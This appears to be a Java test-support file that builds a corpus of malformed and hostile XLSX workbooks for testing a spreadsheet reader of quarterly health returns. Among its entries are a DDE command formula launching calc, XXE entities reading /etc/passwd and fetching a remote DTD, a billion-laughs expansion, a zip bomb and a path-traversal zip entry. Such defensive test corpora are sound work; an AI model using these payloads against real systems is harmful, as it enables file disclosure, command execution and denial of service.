package uk.pctmonitor.readers.xlsx;

import static uk.pctmonitor.readers.xlsx.BookBytes.cell;
import static uk.pctmonitor.readers.xlsx.BookBytes.number;
import static uk.pctmonitor.readers.xlsx.BookBytes.row;
import static uk.pctmonitor.readers.xlsx.BookBytes.text;
import static uk.pctmonitor.readers.xlsx.BookBytes.texts;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.SortedSet;
import java.util.TreeSet;
import java.util.function.Supplier;

/**
 * The workbooks of the bad-input corpus, by name. All are quarterly returns of Stockton-on-Tees
 * (5E1) for 2010/11 Q1: 9,712 of 9,905 seen in time, and two infections. Nothing hostile is kept as
 * a file.
 */
public final class CorpusBooks {

    private static final Map<String, Supplier<byte[]>> BOOKS = new LinkedHashMap<>();

    private static final String HEADER =
            texts(1, "org", "metric", "period", "numerator", "denominator", "value");
    private static final String SEEN =
            row(
                    2,
                    text("5E1"),
                    text("ACC-AE4"),
                    text("2010/11 Q1"),
                    number("9712"),
                    number("9905"));
    private static final String INFECTIONS =
            row(3, text("5E1"), text("SAF-MRSA"), text("2010/11 Q1"), "", "", number("2"));
    private static final String GOOD = HEADER + SEEN + INFECTIONS;

    private CorpusBooks() {}

    /** The names of all of them. */
    public static SortedSet<String> names() {
        return new TreeSet<>(BOOKS.keySet());
    }

    /** The workbook of that name. */
    public static byte[] of(String name) {
        Supplier<byte[]> book = BOOKS.get(name);
        if (book == null) {
            throw new IllegalArgumentException("no such workbook: " + name);
        }
        return book.get();
    }

    /** A row about infections in which one cell is another. */
    private static BookBytes value(String cell) {
        return BookBytes.of(
                HEADER
                        + SEEN
                        + row(3, text("5E1"), text("SAF-MRSA"), text("2010/11 Q1"), "", "", cell));
    }

    private static BookBytes rate(String cell) {
        return BookBytes.of(
                HEADER
                        + row(
                                2,
                                text("5E1"),
                                text("ACC-AE4"),
                                text("2010/11 Q1"),
                                "",
                                number("9905"),
                                cell));
    }

    private static BookBytes code(String cell) {
        return BookBytes.of(
                HEADER + row(2, cell, text("SAF-MRSA"), text("2010/11 Q1"), "", "", number("2")));
    }

    private static BookBytes period(String cell) {
        return BookBytes.of(
                HEADER + row(2, text("5E1"), text("SAF-MRSA"), cell, "", "", number("2")));
    }

    private static BookBytes good() {
        return BookBytes.of(GOOD);
    }

    private static BookBytes after(String xml) {
        return new BookBytes().sheet("Data", "", GOOD, xml);
    }

    private static void add(String name, Supplier<BookBytes> book) {
        BOOKS.put(name, () -> book.get().bytes());
    }

    private static byte[] with(String part, String content) {
        return good().part(part, content).bytes();
    }

    private static String dtd(String declaration, String body) {
        return "<?xml version=\"1.0\"?><!DOCTYPE worksheet "
                + declaration
                + "><worksheet xmlns=\""
                + BookBytes.MAIN
                + "\"><sheetData>"
                + GOOD
                + body
                + "</sheetData></worksheet>";
    }

    /**
     * As a spreadsheet program writes rows 4 to 1,048,575 when whole columns have been formatted.
     */
    private static String formattedRows() {
        StringBuilder rows = new StringBuilder();
        for (int i = 4; i < 1_048_576; i++) {
            rows.append("<row r=\"")
                    .append(i)
                    .append("\" spans=\"1:6\" s=\"0\" customFormat=\"1\"/>");
        }
        return rows.toString();
    }

    /** An old container of files, as .xls and protected workbooks are. */
    private static byte[] container(String file) {
        byte[] bytes = new byte[2_048];
        byte[] signature = {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0};
        byte[] name = file.getBytes(StandardCharsets.UTF_16LE);
        System.arraycopy(signature, 0, bytes, 0, signature.length);
        System.arraycopy(name, 0, bytes, 1_200, name.length);
        return bytes;
    }

    private static String differentStyles() {
        StringBuilder styles = new StringBuilder();
        for (int i = 0; i < 100_000; i++) {
            styles.append("<xf numFmtId=\"0\" fontId=\"")
                    .append(i * 7919L % 100_003)
                    .append("\"/>");
        }
        return styles.toString();
    }

    private static String repeated(String text, int times) {
        return text.repeat(times);
    }

    static {
        add("good", CorpusBooks::good);
        // XLS-01, XLS-02
        add("formula", () -> value("<c r=\"@\"><f>B2/C2</f><v>2</v></c>"));
        add("formula-without-value", () -> value("<c r=\"@\"><f>B2/C2</f></c>"));
        add("formula-of-text", () -> value(cell("str", "<f>cmd|'/c calc'!A1</f><v>2</v>")));
        add("error-value", () -> value(cell("e", "<v>#DIV/0!</v>")));
        add("error-not-available", () -> value(cell("e", "<v>#N/A</v>")));
        // XLS-03
        add(
                "external-link",
                () ->
                        good().relation("externalLink", "externalLinks/externalLink1.xml", "")
                                .part("xl/externalLinks/externalLink1.xml", "<externalLink/>")
                                .type(
                                        "xl/externalLinks/externalLink1.xml",
                                        BookBytes.TYPES + "externalLink+xml"));
        add(
                "linked-picture",
                () ->
                        good().relation(
                                        "image",
                                        "http://192.0.2.1/pixel.png",
                                        " TargetMode=\"External\""));
        add(
                "data-connection",
                () ->
                        good().relation("connections", "connections.xml", "")
                                .part("xl/connections.xml", "<connections/>")
                                .type("xl/connections.xml", BookBytes.TYPES + "connections+xml"));
        BOOKS.put(
                "power-query",
                () -> with("customXml/item1.xml", "<DataMashup>UEsDBA==</DataMashup>"));
        BOOKS.put(
                "power-query-utf16",
                () ->
                        good().part(
                                        "customXml/item1.xml",
                                        "\ufeff<DataMashup>UEsDBA==</DataMashup>"
                                                .getBytes(StandardCharsets.UTF_16LE))
                                .bytes());
        add(
                "dde-link",
                () ->
                        good().properties(
                                        "<externalReferences><externalReference r:id=\"r1\"/></externalReferences>"));
        add(
                "macros-declared",
                () -> good().mainType("application/vnd.ms-excel.sheet.macroEnabled.main+xml"));
        BOOKS.put(
                "macros",
                () ->
                        good().part(
                                        "xl/vbaProject.bin",
                                        new byte[] {
                                            (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 0, 0
                                        })
                                .bytes());
        // XLS-04, XLS-05
        BOOKS.put(
                "xxe-file",
                () ->
                        with(
                                "xl/worksheets/sheet1.xml",
                                dtd(
                                        "[<!ENTITY x SYSTEM \"file:///etc/passwd\">]",
                                        texts(4, "&x;"))));
        BOOKS.put(
                "xxe-http",
                () ->
                        with(
                                "xl/sharedStrings.xml",
                                dtd("SYSTEM \"http://192.0.2.1/evil.dtd\"", "")));
        BOOKS.put(
                "xxe-parameter-entity",
                () ->
                        with(
                                "docProps/core.xml",
                                dtd("[<!ENTITY % p SYSTEM \"http://192.0.2.1/p\"> %p;]", "")));
        BOOKS.put(
                "billion-laughs",
                () ->
                        with(
                                "xl/worksheets/sheet1.xml",
                                dtd(
                                        "[<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
                                                + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]",
                                        texts(4, "&c;"))));
        BOOKS.put(
                "doctype-late",
                () ->
                        with(
                                "xl/worksheets/sheet1.xml",
                                "<!--"
                                        + repeated("x", 10_000)
                                        + "-->"
                                        + dtd("[]", "").substring(21)));
        // XLS-06, XLS-07
        BOOKS.put(
                "zip-bomb",
                () ->
                        with(
                                "xl/worksheets/sheet1.xml",
                                "<worksheet xmlns=\""
                                        + BookBytes.MAIN
                                        + "\"><sheetData>"
                                        + texts(1, repeated("A", 60_000_000))
                                        + "</sheetData></worksheet>"));
        BOOKS.put(
                "long-attribute",
                () ->
                        with(
                                "xl/worksheets/sheet1.xml",
                                "<worksheet xmlns=\""
                                        + BookBytes.MAIN
                                        + "\" name='"
                                        + repeated("> ", 60_000)
                                        + "'/>"));
        BOOKS.put(
                "many-entries",
                () -> {
                    ZipBytes zip = good().zip();
                    for (int i = 0; i < 2_000; i++) {
                        zip.add("xl/media/" + i + ".bin", new byte[1]);
                    }
                    return zip.bytes();
                });
        BOOKS.put("nested-zip", () -> good().part("xl/media/inner.bin", good().bytes()).bytes());
        add("many-styles", () -> good().styles("", differentStyles()));
        // XLS-08, XLS-09
        BOOKS.put(
                "duplicate-entry",
                () ->
                        good().zip()
                                .add(
                                        "xl/worksheets/sheet1.xml",
                                        "<worksheet/>".getBytes(StandardCharsets.UTF_8))
                                .bytes());
        BOOKS.put(
                "case-variant-entry",
                () -> good().zip().add("xl/worksheets/SHEET1.xml", new byte[] {'<'}).bytes());
        BOOKS.put(
                "entry-leads-out",
                () -> good().zip().add("xl/../../evil.xml", new byte[] {'<'}).bytes());
        BOOKS.put(
                "entry-with-backslash",
                () -> good().zip().add("xl\\evil.xml", new byte[] {'<'}).bytes());
        BOOKS.put(
                "names-disagree",
                () -> good().zip().add("xl/a.bin", "xl/b.bin", new byte[3], 0, 3, 3).bytes());
        BOOKS.put(
                "sizes-disagree",
                () -> good().zip().add("xl/a.bin", "xl/a.bin", new byte[300], 0, 3, 300).bytes());
        BOOKS.put(
                "sizes-lie",
                () -> good().zip().add("xl/a.bin", "xl/a.bin", new byte[300], 0, 3, 3).bytes());
        BOOKS.put(
                "encrypted-entry",
                () -> good().zip().add("xl/a.bin", "xl/a.bin", new byte[3], 1, 3, 3).bytes());
        BOOKS.put("cut-in-half", () -> Arrays.copyOf(good().bytes(), good().bytes().length / 2));
        BOOKS.put(
                "damaged",
                () -> {
                    byte[] bytes = good().bytes();
                    bytes[60] ^= 0x55;
                    return bytes;
                });
        BOOKS.put("plain-zip", () -> new ZipBytes().add("return.csv", new byte[] {'a'}).bytes());
        BOOKS.put(
                "opendocument",
                () ->
                        new ZipBytes()
                                .add("mimetype", new byte[] {'a'})
                                .add("content.xml", new byte[] {'<'})
                                .bytes());
        BOOKS.put(
                "binary-workbook",
                () ->
                        new ZipBytes()
                                .add("[Content_Types].xml", new byte[] {'<'})
                                .add("xl/workbook.bin", new byte[] {1})
                                .bytes());
        // XLS-10
        add("two-sheets", () -> good().sheet("More", "", GOOD, ""));
        add(
                "data-on-the-second",
                () -> new BookBytes().sheet("Cover", "", "", "").sheet("Data", "", GOOD, ""));
        add("hidden-sheet-beside", () -> good().sheet("Working", "hidden", GOOD, ""));
        add("very-hidden-sheet-beside", () -> good().sheet("Working", "veryHidden", GOOD, ""));
        add(
                "only-hidden",
                () -> new BookBytes().sheet("Empty", "", "", "").sheet("Data", "hidden", GOOD, ""));
        add("chart-sheet-beside", () -> good().chartSheet("Chart"));
        add("nothing-in-it", () -> BookBytes.of(""));
        add("header-only", () -> BookBytes.of(HEADER));
        // XLS-11
        add(
                "hidden-row",
                () ->
                        BookBytes.of(
                                HEADER
                                        + SEEN.replace("<row r=\"2\"", "<row r=\"2\" hidden=\"1\"")
                                        + INFECTIONS));
        BOOKS.put(
                "hidden-column",
                () ->
                        with(
                                "xl/worksheets/sheet1.xml",
                                "<worksheet xmlns=\"%s\"><cols><col min=\"4\" max=\"5\" hidden=\"1\"/></cols><sheetData>%s</sheetData></worksheet>"
                                        .formatted(BookBytes.MAIN, GOOD)));
        add(
                "filtered",
                () ->
                        new BookBytes()
                                .sheet(
                                        "Data",
                                        "",
                                        HEADER
                                                + SEEN
                                                + INFECTIONS.replace(
                                                        "<row r=\"3\"",
                                                        "<row r=\"3\" hidden=\"true\""),
                                        "<autoFilter ref=\"A1:F3\"><filterColumn colId=\"1\"/></autoFilter>"));
        // XLS-12
        add("merged", () -> after("<mergeCells><mergeCell ref=\"A2:A3\"/></mergeCells>"));
        add("merged-below", () -> after("<mergeCells><mergeCell ref=\"A9:F9\"/></mergeCells>"));
        // XLS-13
        add(
                "formatted-to-the-bottom",
                () ->
                        BookBytes.of(
                                GOOD
                                        + formattedRows()
                                        + "<row r=\"1048576\"><c r=\"A1048576\" s=\"0\"/></row>"));
        BOOKS.put("encrypted", () -> container("EncryptedPackage"));
        BOOKS.put("old-workbook", () -> container("Workbook"));
        BOOKS.put("csv-text", () -> "org,metric,period,value\n".getBytes(StandardCharsets.UTF_8));
        add("formula-text", () -> value(text("=1+1")));
        add(
                "hostile-sheet-name",
                () ->
                        new BookBytes()
                                .sheet("A&#10;ERROR fake", "", GOOD, "")
                                .sheet("=cmd|x&#x202E;", "", GOOD, ""));
        // XLS-14, XLS-15, XLS-16
        String scientific = "<xf numFmtId=\"11\"/>";
        add("code-is-number", () -> code(number("50", 1)).styles("", scientific));
        add("code-of-digits-is-number", () -> code(number("111")));
        add("code-is-date", () -> code(number("40483", 1)).styles("", "<xf numFmtId=\"17\"/>"));
        add("period-is-date", () -> period(number("40483", 1)).styles("", "<xf numFmtId=\"17\"/>"));
        add("period-is-serial", () -> period(number("40483")));
        add(
                "period-is-date-1904",
                () ->
                        period(number("39021", 1))
                                .styles("", "<xf numFmtId=\"14\"/>")
                                .properties("<workbookPr date1904=\"1\"/>"));
        add("period-is-iso-date", () -> period(cell("d", "<v>2010-11-01T00:00:00</v>")));
        add("value-is-date", () -> value(number("2", 1)).styles("", "<xf numFmtId=\"14\"/>"));
        // XLS-17
        String percent =
                "<numFmt numFmtId=\"170\" formatCode=\"0.0%\"/>"
                        + "<numFmt numFmtId=\"171\" formatCode=\"0.0&quot;%&quot;\"/>";
        String percentStyles = "<xf numFmtId=\"170\"/><xf numFmtId=\"171\"/>";
        add("percentage", () -> rate(number("0.981", 1)).styles(percent, percentStyles));
        add("percentage-as-text", () -> rate(text("98.1%")));
        add("percentage-as-number", () -> rate(number("98.1")));
        add("quoted-percent-sign", () -> rate(number("98.1", 2)).styles(percent, percentStyles));
        add("percentage-of-a-count", () -> value(number("0.02", 1)).styles(percent, percentStyles));
        add(
                "percentage-mixed",
                () ->
                        BookBytes.of(
                                        HEADER
                                                + row(
                                                        2,
                                                        text("5E1"),
                                                        text("ACC-AE4"),
                                                        text("2010/11 Q1"),
                                                        "",
                                                        number("9905"),
                                                        number("0.981", 1))
                                                + row(
                                                        3,
                                                        text("5E1"),
                                                        text("ACC-AE4"),
                                                        text("2009/10 Q4"),
                                                        "",
                                                        number("9905"),
                                                        number("0.953")))
                                .styles(percent, percentStyles));
        // XLS-18, XLS-19
        add("binary-fraction", () -> rate(number("98.099999999999994")));
        add("sum-of-tenths", () -> value(number("0.30000000000000004")));
        add("scientific-raw", () -> value(number("2E0")));
        add("far-too-large", () -> value(number("1E+300")));
        add("number-as-text", () -> value(text("2")));
        // XLS-20, XLS-21
        add("boolean", () -> value(cell("b", "<v>1</v>")));
        add(
                "rich-text",
                () ->
                        code(cell("s", "<v>0</v>"))
                                .texts("<si><r><rPr><b/></rPr><t>5E</t></r><r><t>1</t></r></si>"));
        add("shared-text-missing", () -> code(cell("s", "<v>7</v>")).texts("<si><t>5E1</t></si>"));
        add("shared-text-negative", () -> code(cell("s", "<v>-1</v>")));
        add("style-missing", () -> value(number("2", 9)));
        add("unknown-type", () -> value(cell("zz", "<v>2</v>")));
        add("no-number", () -> value(number("two")));
        add("rows-out-of-order", () -> BookBytes.of(HEADER + INFECTIONS + SEEN));
        add(
                "phonetic",
                () ->
                        code(cell("s", "<v>0</v>"))
                                .texts(
                                        "<si><t>5E1</t><rPh sb=\"0\" eb=\"1\"><t>XYZ</t></rPh></si>"));
        add("escaped-return", () -> code(text("5E1_x000D_")));
        add("escaped-bell", () -> code(text("5_x0007_E1")));
        add(
                "spaces-kept",
                () ->
                        code(
                                "<c r=\"@\" t=\"inlineStr\"><is><t xml:space=\"preserve\"> 5E1 </t></is></c>"));
        // XLS-22
        add("strict", () -> new BookBytes().strict().sheet("Data", "", GOOD, ""));
        add(
                "without-references",
                () -> BookBytes.of((HEADER + SEEN).replaceAll(" r=\"[A-F]?[0-9]\"", "")));
        BOOKS.put(
                "prefixed-names",
                () ->
                        with(
                                "xl/worksheets/sheet1.xml",
                                ("<x:worksheet xmlns:x=\""
                                                + BookBytes.MAIN
                                                + "\"><x:sheetData>"
                                                + GOOD.replaceAll(
                                                        "<(/?)(row|c|v|is|t)([ >])", "<$1x:$2$3"))
                                        + "</x:sheetData></x:worksheet>"));
    }
}
